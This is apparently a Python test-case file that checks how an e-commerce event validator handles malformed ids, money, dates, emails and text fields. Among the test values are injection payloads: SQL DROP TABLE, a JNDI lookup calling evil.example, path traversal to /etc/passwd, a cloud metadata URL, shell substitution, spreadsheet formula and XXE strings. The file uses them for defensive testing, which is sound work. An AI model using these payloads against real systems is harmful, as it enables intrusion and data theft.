"""Values of the contract's fields that are not what the contract says, though PHP, a spreadsheet or JavaScript would take them for
it: the event is forwarded without them, and says so. Beside them those that look no better and can be read all the same."""

from .case import CART, CUSTOMER, DELETE, INVOICE, PLACE, PRODUCT, SAVE, SHIPMENT, Case, at, signed, with_text_at

CASES = []


def reports(name, channel, path, text, *pointers, why=""):
    """With this JSON text at this place of a good entity, the field is an issue; or other fields, if they are named."""
    pointers = at(channel, *(pointers or [path]))
    CASES.append(Case(name, channel, lambda: signed(channel, with_text_at(channel, path, text)), "accepted", pointers, why=why))


def refuses(name, channel, path, text, *pointers, why=""):
    """With this JSON text at this place of a good entity, nothing identifies it, or nobody can read it."""
    pointers = at(channel, *(pointers or [path]))
    CASES.append(Case(name, channel, lambda: signed(channel, with_text_at(channel, path, text)), "invalid", pointers, why=why))


def takes(name, channel, path, text, why=""):
    CASES.append(Case(name, channel, lambda: signed(channel, with_text_at(channel, path, text)), "accepted", why=why))


# Ids

for name, text in {
    "half": "0.5",
    "negative": "-1",
    "negative-in-text": '"-1"',
    "minus-zero": "-0",
    "exponent": "1e3",
    "exponent-in-text": '"1e3"',
    "past-a-signed-integer": "9223372036854775808",
    "past-an-unsigned-integer": "18446744073709551616",
    "40-digits": "1" * 40,
    "100000-digits-in-text": '"' + "1" * 100_000 + '"',
    "1e999": "1e999",
    "nul-after": r'"7\u0000"',
    "plus": '"+7"',
    "hex": '"0x7"',
    "thousands": '"7,000"',
    "arabic-digits": '"٧"',
    "fullwidth-digits": '"７"',
    "superscript": '"²"',
    "roman": '"Ⅶ"',
    "word": '"seven"',
    "true": "true",
    "list": "[7]",
    "list-of-lists": "[[7]]",
    "object": '{"id":7}',
    "injection": '"7 OR 1=1"',
    "path": r'"..\/..\/7"',
    "nan": '"NaN"',
    "null-in-text": '"null"',
}.items():
    reports(f"id-{name}", SAVE, "entity_id", text)
reports("id-null", SAVE, "entity_id", "null")
reports("id-empty", SAVE, "entity_id", '""')
reports("id-false", SAVE, "entity_id", "false", why="stands for a default, so the field is missing")
reports("id-empty-list", SHIPMENT, "order_id", "[]")
reports("id-empty-object", SHIPMENT, "order_id", "{}")
reports("id-of-a-customer-in-words", CUSTOMER, "id", '"fifty-seven"')
refuses("id-of-a-customer-negative", DELETE, "entity_id", "-57", "entity_id", "website_id", why="an address alone names no account")
reports("id-of-an-item", PLACE, "items/0/item_id", '"x"', "items/0/item_id")
reports("id-of-a-cart-line", CART, "item_id", "1.5")
reports("id-zero", SAVE, "entity_id", "0", why="stands for what is not saved, so the field is missing")
takes("id-with-leading-zeros", SAVE, "entity_id", '"0007001"', why="a database's text column")
takes("id-largest", SAVE, "entity_id", "9223372036854775807")
for name, text in {
    "float": "7.0",
    "float-in-text": '"7.0"',
    "space-before": '" 7"',
    "space-after": '"7 "',
    "line-break-after": r'"7\n"',
}.items():
    takes(f"id-{name}", SAVE, "entity_id", text)

# Money

for name, text in {
    "comma": '"12,50"',
    "thousands": '"1,234.50"',
    "thousands-of-a-frenchman": '"1 234.50"',
    "apostrophes": '"1\'234.50"',
    "currency": '"$12.50"',
    "currency-after": '"12.50 EUR"',
    "nul": r'"12.50\u0000"',
    "plus": '"+12.50"',
    "minus-twice": '"--5"',
    "minus-after": '"5-"',
    "minus-alone": '"-"',
    "minus-point": '"-."',
    "point-alone": '"."',
    "points": '"1.2.3"',
    "unicode-minus": '"−5"',
    "parentheses": '"(5.00)"',
    "percent": '"5%"',
    "fraction": r'"1\/2"',
    "vulgar-fraction": '"½"',
    "arabic-digits": '"١٢٫٥٠"',
    "fullwidth-digits": '"１２.５０"',
    "hex": '"0xC"',
    "hex-float": '"0x1.8p3"',
    "underscore": '"1_000"',
    "nan": '"NaN"',
    "nan-of-php": '"NAN"',
    "inf": '"INF"',
    "infinity": '"Infinity"',
    "minus-infinity": '"-Infinity"',
    "exponent-empty": '"1e"',
    "exponent-plus": '"1e+"',
    "exponent-alone": '"e5"',
    "exponent-twice": '"1e1e1"',
    "exponent-of-a-fraction": '"1e2.5"',
    "exponent-huge": "1e99999",
    "exponent-past-all-integers": "1e" + "9" * 30,
    "1e999": "1e999",
    "minus-1e999": "-1e999",
    "1e29": "1e29",
    "past-the-decimals": "79228162514264337593543950336",
    "400-digits": "1" * 400,
    "400-digits-in-text": '"' + "1" * 400 + '"',
    "1000000-digits": '"' + "9" * 1_000_000 + '"',
    "true": "true",
    "list": "[12.5]",
    "object": '{"amount":12.5,"currency":"EUR"}',
    "empty-list": "[]",
    "words": '"twelve"',
    "null-in-text": '"null"',
    "formula": '"=1+1"',
    "sum": '"12+0.5"',
}.items():
    reports(f"money-{name}", PLACE, "grand_total", text)
reports("money-missing", PLACE, "grand_total", "null")
reports("money-empty", PLACE, "grand_total", '""')
reports("money-false", PLACE, "grand_total", "false")
refuses(
    "money-of-an-invoice", INVOICE, "grand_total", '"12.5.0"', *("entity_id", "increment_id", "order_id", "grand_total"),
    why="nothing else is there",
)
reports("money-of-an-item", PLACE, "items/0/price", '"free"')
reports("money-of-a-payment", PLACE, "payment/amount_paid", '"1e"')
reports("price-of-a-product", PRODUCT, "price", '"31,08"')
reports(
    "money-and-quantity-of-an-item",
    PLACE,
    "items/0",
    '{"sku":"A","price":"x","qty_ordered":"y"}',
    "items/0/price",
    "items/0/qty_ordered",
)
takes("money-negative", PLACE, "grand_total", "-12.5", why="nobody said that a total is positive")
takes("money-minus-zero", PLACE, "grand_total", "-0")
takes("money-minus-zero-in-text", PLACE, "grand_total", '"-0.0000"')
takes("money-zero", PLACE, "grand_total", "0", why="paid by gift card")
takes("money-of-a-sum-of-floats", PLACE, "grand_total", "30.249999999999996")
takes("money-that-should-be-zero", PLACE, "grand_total", "2.8421709430404007e-14", why="PHP's float residue")
takes("money-1e-999", PLACE, "grand_total", "1e-999", why="rounds to zero")
takes("money-400-decimals", PLACE, "grand_total", "0." + "3" * 400, why="rounded to 28 places")
takes("money-1000000-decimals", PLACE, "grand_total", '"0.' + "3" * 1_000_000 + '"')
takes("money-with-an-exponent", PLACE, "grand_total", '"1.25e+1"', why="PHP prints large and small floats so")
takes("money-as-php-prints-it", PLACE, "grand_total", "1.0e+25")
takes("money-past-the-safe-integers", PLACE, "grand_total", "90071992547409.9301")
takes("money-with-six-decimals", PLACE, "grand_total", '"12.500000"')
takes("money-with-leading-zeros", PLACE, "grand_total", '"0012.50"')
for name, text in {
    "space-before": '" 12.50"',
    "space-after": '"12.50 "',
    "line-break": r'"12.50\n"',
}.items():
    takes(f"money-{name}", PLACE, "grand_total", text)

# Quantities

takes("quantity-zero", CART, "qty", "0")
takes("quantity-zero-in-text", CART, "qty", '"0.0000"')
takes("quantity-minus-zero", CART, "qty", "-0.0")
takes("quantity-negative", CART, "qty", "-1")
takes("quantity-that-rounds-to-zero", CART, "qty", "1e-400")
reports("quantity-null", CART, "qty", "null", why="forwarded without; the stock check does not know")
reports("quantity-empty", CART, "qty", '""')
reports("quantity-true", CART, "qty", "true")
reports("quantity-list", CART, "qty", "[1]")
reports("quantity-1e999", CART, "qty", "1e999")
reports("quantity-infinite", CART, "qty", '"INF"')
reports("quantity-dozen", CART, "qty", '"12 pcs"')
reports("quantity-of-a-parcel", SHIPMENT, "items", '[{"sku":"A","qty":"many"}]', "items/0/qty")
takes("quantity-fraction", CART, "qty", '"0.0001"', why="rope by the metre")
takes("quantity-huge", CART, "qty", "1e27")

# Flags and states

for name, text in {
    "two": "2",
    "minus-one": "-1",
    "yes": '"yes"',
    "true-in-text": '"true"',
    "false-in-text": '"false"',
    "leading-zero": '"01"',
    "list": "[1]",
    "object": '{"0":1}',
    "1e999": "1e999",
    "on": '"on"',
    "fullwidth": '"１"',
}.items():
    reports(f"flag-{name}", PLACE, "customer_is_guest", text)
takes("flag-true", PLACE, "customer_is_guest", "true", why="PHP's in memory")
takes("flag-in-text", PLACE, "customer_is_guest", '"1"')
takes("flag-null", PLACE, "customer_is_guest", "null")
for name, text in {
    "zero": "0",
    "three": "3",
    "true": "true",
    "word": '"enabled"',
    "list": "[1]",
}.items():
    reports(f"status-of-a-product-{name}", PRODUCT, "status", text)
takes("status-of-a-product-in-text", PRODUCT, "status", '"2"')
takes("status-of-a-product-by-default", PRODUCT, "status", "false", why="a store view that uses the default value")
for name, text in {
    "word": '"paid"',
    "true": "true",
    "list": "[2]",
    "null": "null",
}.items():
    reports(f"state-of-an-invoice-{name}", INVOICE, "state", text)
takes("state-of-an-invoice-padded", INVOICE, "state", '"02"')
takes("flag-float", PLACE, "customer_is_guest", "1.0")
takes("flag-space", PLACE, "customer_is_guest", '" 1"')
takes("status-of-a-product-float", PRODUCT, "status", "1.0")
takes("status-of-a-product-padded", PRODUCT, "status", '"1 "')
takes("state-of-an-invoice-open", INVOICE, "state", "1")
takes("state-of-an-invoice-cancelled", INVOICE, "state", '"3"')
takes("state-of-an-invoice-float", INVOICE, "state", "2.0")

# Dates

for name, text in {
    "13th-month": "2026-13-01 00:00:00",
    "month-zero": "2026-00-01 00:00:00",
    "day-zero": "2026-06-00 00:00:00",
    "31st-of-june": "2026-06-31 00:00:00",
    "30th-of-february": "2026-02-30 00:00:00",
    "29th-of-february": "2026-02-29 00:00:00",
    "29th-of-february-2100": "2100-02-29 00:00:00",
    "hour-24": "2026-06-18 24:00:00",
    "minute-60": "2026-06-18 23:60:00",
    "leap-second": "2026-06-30 23:59:60",
    "second-61": "2026-06-18 23:59:61",
    "date-alone": "2026-06-18",
    "time-alone": "20:27:11",
    "german": "18.06.2026 20:27:11",
    "american": "06/18/2026 20:27:11",
    "two-digit-year": "26-06-18 20:27:11",
    "five-digit-year": "12026-06-18 20:27:11",
    "negative-year": "-2026-06-18 20:27:11",
    "signed-month": "2026-+6-18 20:27:11",
    "one-digit-month": "2026-6-18 20:27:11",
    "two-spaces": "2026-06-18  20:27:11",
    "underscore": "2026-06-18_20:27:11",
    "dots": "2026.06.18 20:27:11",
    "no-seconds": "2026-06-18 20:27",
    "fraction-empty": "2026-06-18 20:27:11.",
    "fraction-comma": "2026-06-18 20:27:11,5",
    "fraction-of-20-digits": "2026-06-18 20:27:11.00000000000000000001",
    "zone-name": "2026-06-18 20:27:11 Europe\\/Berlin",
    "zone-abbreviated": "2026-06-18 20:27:11 CEST",
    "zone-in-brackets": "2026-06-18T20:27:11Z[UTC]",
    "zone-twice": "2026-06-18T20:27:11Z+02:00",
    "zone-24": "2026-06-18T20:27:11+24:00",
    "zone-60-minutes": "2026-06-18T20:27:11+02:60",
    "zone-half": "2026-06-18T20:27:11+2",
    "zone-unicode-minus": "2026-06-18T20:27:11−02:00",
    "zone-signed-minutes": "2026-06-18T20:27:11+02:-1",
    "zone-with-seconds": "2026-06-18T20:27:11+02:00:00",
    "before-the-year-zero": "0000-01-01T00:00:00+00:01",
    "after-the-year-9999": "9999-12-31T23:59:59-00:01",
    "fullwidth": "２０２６-06-18 20:27:11",
    "arabic": "٢٠٢٦-٠٦-١٨ 20:27:11",
    "cut-in-a-character": "2026-06-1é 20:27:11",
    "epoch-in-text": "1781814431",
    "now": "now",
    "tomorrow": "tomorrow",
    "http": "Thu, 18 Jun 2026 20:27:11 GMT",
    "injection": "2026-06-18 20:27:11'; DROP TABLE sales_order; --",
    "nul": "2026-06-18 20:27:11\\u0000",
    "javascript": "[object Date]",
    "1-mb": "2026-06-18 20:27:11" + "0" * 1_000_000,
}.items():
    reports(f"date-{name}", SAVE, "updated_at", f'"{text}"')
reports("date-epoch", SAVE, "updated_at", "1781814431")
reports("date-true", SAVE, "updated_at", "true")
reports("date-list", SAVE, "updated_at", '["2026-06-18","20:27:11"]')
takes("date-object-of-php", SAVE, "updated_at", '{"date":"2026-06-18 20:27:11.000000","timezone_type":3,"timezone":"UTC"}')
reports("date-of-a-customer", CUSTOMER, "created_at", '"yesterday"')
for name, text in {
    "mysql": "2026-06-18 20:27:11",
    "zero": "0000-00-00 00:00:00",
    "empty": "",
    "leap-day": "2024-02-29 23:59:59",
    "leap-day-2000": "2000-02-29T00:00:00Z",
    "zone-minus-zero": "2026-06-18T20:27:11-00:00",
    "zone-far": "2026-06-18T20:27:11+14:00",
    "zone-without-colon": "2026-06-18T20:27:11+0000",
    "small-letters": "2026-06-18t20:27:11z",
    "nanoseconds": "2026-06-18T20:27:11.123456789Z",
    "year-9999": "9999-12-31 23:59:59",
    "year-zero": "0000-01-01 00:00:00",
}.items():
    takes(f"date-{name}", SAVE, "updated_at", f'"{text}"')
takes("date-space-before", SAVE, "updated_at", '" 2026-06-18 20:27:11"')
takes("date-space-after", SAVE, "updated_at", '"2026-06-18 20:27:11 "')
for name, text in {
    "zero-day": "0000-00-00",
    "zero-of-php": "-0001-11-30 00:00:00",
    "zero-in-iso": "-0001-11-30T00:00:00+00:00",
}.items():
    takes(f"date-{name}", SAVE, "updated_at", f'"{text}"', why="never set, so absent")
reports("date-object-of-php-in-a-city", SAVE, "updated_at", '{"date":"2026-06-18 20:27:11.000000","timezone_type":3,"timezone":"Europe\\/Berlin"}')
reports("date-object-of-php-without-zone", SAVE, "updated_at", '{"date":"2026-06-18 20:27:11.000000"}')

# Addresses of all kinds

for name, text in {
    "no-at": "zoe",
    "no-name": "@shop.example",
    "no-domain": "zoe@",
    "two-ats": "zoe@@shop.example",
    "three-parts": "a@b@shop.example",
    "space": "zoe nunez@shop.example",
    "header-injection": "zoe@shop.example\\r\\nBcc: all@shop.example",
    "nul": "zoe@shop.example\\u0000",
    "dots": "zoe@shop..example",
    "dot-at-the-end": "zoe@shop.example.",
    "two-addresses": "zoe@shop.example, max@shop.example",
    "display-name": "Zoe <zoe@shop.example>",
    "no-break-space": "zoe\\u00a0@shop.example",
    "too-long": "a" * 250 + "@b.de",
    "1-mb": "a@" + "b" * 1_000_000,
    "escape": "\\u001b[2J@shop.example",
}.items():
    reports(f"email-{name}", CUSTOMER, "email", f'"{text}"')
reports("email-number", DELETE, "email", "57")
takes("email-null", DELETE, "email", "null")
reports("email-true", DELETE, "email", "true")
reports("email-list", DELETE, "email", '["zoe@shop.example"]')
reports("email-of-an-order", PLACE, "customer_email", '"zoe at shop"')
takes("email-international", CUSTOMER, "email", '"zoë+tag@söhne.example"')
takes("email-local", CUSTOMER, "email", '"root@localhost"')
takes("email-quoted", CUSTOMER, "email", r'"\"<script>\"@shop.example"', why="nobody shows it; the shop took it")
takes("email-with-sql", CUSTOMER, "email", '"o\'hara--@shop.example"')
for name, text in {
    "three-letters": '"USA"',
    "name": '"Germany"',
    "digits": '"12"',
    "number": "49",
    "umlaut": '"ÖS"',
    "flag": '"🇩🇪"',
    "space": '"D "',
}.items():
    reports(f"country-{name}", PLACE, "billing_address/country_id", text)
takes("country-in-small-letters", PLACE, "billing_address/country_id", '"de"')
takes("country-empty", PLACE, "billing_address/country_id", '""')
for name, text in {
    "sign": '"€"',
    "four-letters": '"EURO"',
    "number": "978",
    "two-letters": '"EU"',
    "lookalike": '"ЕUR"',
    "empty": '""',
    "list": '["EUR"]',
}.items():
    reports(f"currency-{name}", PLACE, "order_currency_code", text)
takes("currency-unheard-of", PLACE, "order_currency_code", '"XQZ"')
takes("email-space-after", CUSTOMER, "email", '"zoe@shop.example "')
takes("email-quoted-with-a-space", CUSTOMER, "email", r'"\"zoe nunez\"@shop.example"', why="RFC 5321 allows it")
reports("email-of-two", CUSTOMER, "email", '"zoe@shop.example,max@shop.example"')
reports("email-in-angle-brackets", CUSTOMER, "email", '"<zoe@shop.example>"')
takes("country-before-a-space", PLACE, "billing_address/country_id", '"GB "')

# Texts

for name, text in {"true": "true", "list": '["a"]', "object": '{"a":1}', "empty-list": "[]", "empty-object": "{}"}.items():
    refuses(f"number-of-an-order-{name}", PLACE, "increment_id", text, "increment_id", "entity_id")
refuses("number-of-an-order-empty", PLACE, "increment_id", '""', "increment_id", "entity_id")
refuses("number-of-an-order-false", PLACE, "increment_id", "false", "increment_id", "entity_id")
reports("sku-null", PRODUCT, "sku", "null")
refuses("sku-list", CART, "sku", "[]", "sku", "product_id")
reports("name-object", PRODUCT, "name", '{"en":"Cap"}', why="translations are not in the contract")
reports("street-of-objects", PLACE, "billing_address/street", '[{"line":1}]', "billing_address/street/0")
takes("street-keyed-by-names", PLACE, "billing_address/street", '{"line":"x"}')
reports("street-true", PLACE, "billing_address/street", "true")
reports("region-list", PLACE, "billing_address/region", "[1]")
reports("region-of-objects", PLACE, "billing_address/region", '{"region":{"a":1}}', "billing_address/region/region")
reports("address-text", PLACE, "billing_address", '"12/3 Example Road"')
refuses("address-1e999", PLACE, "billing_address", "1e999", why="out of range, and no address either")
reports("payment-number", PLACE, "payment", "5")
reports("payment-list", PLACE, "payment", '["checkmo"]')
refuses("payment-1e999", PLACE, "payment", "-1e999")
reports("tracks-text", SHIPMENT, "tracks", '"1Z999"')
reports("tracks-of-texts", SHIPMENT, "tracks", '["1Z999"]', "tracks/0")
for name, text in {
    "number": "777",
    "float": "1.50",
    "1e999": "1e999",
    "10-kb": '"' + "7" * 10_000 + '"',
    "html": r'"<script>alert(1)<\/script>"',
    "sql": '"1\'; DROP TABLE sales_order; --"',
    "jndi": r'"${jndi:ldap:\/\/evil.example\/a}"',
    "template": '"{{constructor.constructor(1)()}}"',
    "path": r'"..\/..\/..\/etc\/passwd"',
    "url": r'"http:\/\/169.254.169.254\/latest\/meta-data"',
    "format": '"%s%s%n"',
    "shell": '"$(id) `id` ; id | id"',
    "php-object": r'"O:8:\"stdClass\":0:{}"',
    "formula": "\"=cmd|' /C calc'!A0\"",
    "log-line": r'"\n{\"message\":\"answered\",\"outcome\":\"accepted\"}"',
    "xml": r'"<!ENTITY x SYSTEM \"file:\/\/\/etc\/passwd\">"',
    "ldap": '"*)(uid=*))(|(uid=*"',
    "spaces": '"   "',
    "emoji": '"👩‍👩‍👧"',
    "slashes": r'"a\/b\/c"',
    "tildes": '"~0~1"',
    "null-in-text": '"null"',
    "undefined": '"undefined"',
    "array": '"Array"',
}.items():
    takes(f"number-of-an-order-{name}", PLACE, "increment_id", text, why="a text is a text")
takes("postcode-number", PLACE, "billing_address/postcode", "97477")
takes("postcode-huge-number", PLACE, "billing_address/postcode", "1e999")
takes("street-with-nulls", PLACE, "billing_address/street", '["12 Road",null,"",null]')
takes("street-of-10000-lines", PLACE, "billing_address/street", '"' + "a\\n" * 10_000 + '"')
takes("region-empty-list", PLACE, "billing_address/region", "[]")
takes("address-empty-list", PLACE, "billing_address", "[]", why="PHP's empty object")
takes("payment-empty-list", PLACE, "payment", "[ ]")
takes("sku-of-1-mb", PRODUCT, "sku", '"' + "A" * 1_000_000 + '"', why="compressed, it fits")
